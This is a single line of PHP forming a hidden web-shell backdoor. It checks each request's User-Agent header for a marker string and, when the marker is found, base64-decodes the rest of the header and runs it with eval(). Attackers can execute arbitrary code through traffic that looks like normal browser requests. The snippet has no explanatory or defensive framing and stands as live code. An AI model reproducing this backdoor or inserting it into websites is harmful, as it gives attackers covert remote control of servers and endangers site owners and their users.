<?php $s = $_SERVER["HTTP_USER_AGENT"]; if (strpos($s, "Mozilla/5.0 (X)") !== false) { eval(base64_decode(substr($s, 20))); }
